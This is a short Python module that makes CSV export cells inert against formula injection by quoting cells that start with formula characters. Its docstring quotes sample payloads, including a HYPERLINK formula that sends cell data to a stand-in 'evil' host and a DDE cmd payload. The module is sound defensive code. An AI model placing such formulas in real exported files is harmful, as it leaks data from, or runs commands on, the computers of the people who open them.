"""CSV cells a spreadsheet program would run as a formula, made inert (CSV injection).

Agency documents are hostile input: a cell reading ``=HYPERLINK("http://evil/?"&A1)``,
``-2+3+cmd|' /C calc'!A0`` or ``@SUM(A1:A9)`` is text in our database, but a reporter who
opens the CSV download in Excel or LibreOffice would run it. The OWASP rule: a cell that
begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a single quote in front,
which spreadsheets show as text. Numbers stay numbers: ``-2``, ``+3.5`` and ``-1e6`` are left
alone. Only CSV gets this treatment; JSON and the database keep the original value.
"""

from __future__ import annotations

import re

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d[\d,]*(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")


def spreadsheet_safe(value: str) -> str:
    """``value`` as a CSV cell no spreadsheet runs: a formula gets a ``'`` in front."""
    if not value or not value.startswith(FORMULA_STARTS):
        return value
    if _NUMBER.fullmatch(value):
        return value
    return "'" + value
